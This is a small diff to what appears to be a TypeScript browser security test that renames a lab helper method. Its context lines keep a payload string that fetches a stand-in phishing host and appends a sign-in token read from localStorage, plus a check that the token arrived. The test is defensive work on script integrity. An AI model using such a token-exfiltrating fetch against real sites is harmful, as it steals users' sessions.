@@ -22,7 +22,7 @@ const theft = (lab: Lab): string =>
   `fetch('${lab.at('phish.localhost')}?' + localStorage.getItem('signin-seal'), { mode: 'no-cors' });`;
 
 const isStolen = (lab: Lab): boolean =>
-  lab.heardBy('phish.localhost').some(({ path }) => path.includes('whale'));
+  lab.requestsTo('phish.localhost').some(({ path }) => path.includes('whale'));
 
 async function openWith(page: Page, lab: Lab, code: string, integrity: string): Promise<void> {
   const headers = { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' };
